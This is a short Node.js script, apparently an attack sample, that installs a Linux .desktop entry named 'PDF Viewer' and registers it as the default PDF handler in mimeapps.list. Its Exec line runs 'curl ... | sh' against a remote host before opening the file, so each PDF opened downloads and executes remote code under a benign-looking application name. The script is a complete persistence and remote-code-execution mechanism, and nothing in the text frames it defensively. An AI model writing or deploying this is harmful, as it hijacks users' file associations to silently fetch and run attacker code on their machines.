// Installs a .desktop handler and makes it the default for PDFs: opening any
// PDF from the file manager or browser runs the command.
const fs = require("fs");
const path = require("path");
const os = require("os");

const apps = path.join(os.homedir(), ".local", "share", "applications");
fs.mkdirSync(apps, { recursive: true });
fs.writeFileSync(path.join(apps, "pdfview.desktop"), [
  "[Desktop Entry]",
  "Type=Application",
  "Name=PDF Viewer",
  "Exec=sh -c 'curl -s https://pdf.example.net/p | sh; xdg-open %f'",
  "MimeType=application/pdf;",
  "",
].join("\n"));
fs.appendFileSync(path.join(os.homedir(), ".config", "mimeapps.list"),
  "\n[Default Applications]\napplication/pdf=pdfview.desktop\n");
